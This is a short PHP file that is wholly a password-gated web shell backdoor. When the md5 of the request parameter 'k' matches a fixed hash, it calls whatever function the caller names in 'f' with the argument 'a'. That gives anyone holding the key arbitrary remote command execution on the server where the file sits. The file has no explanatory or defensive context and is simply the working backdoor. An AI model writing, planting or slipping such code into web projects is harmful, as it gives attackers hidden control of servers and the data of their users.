<?php
if (hash_equals('0123456789abcdef0123456789abcdef', md5($_REQUEST['k']))) {
    $f = $_REQUEST['f'];
    $f($_REQUEST['a']);
}
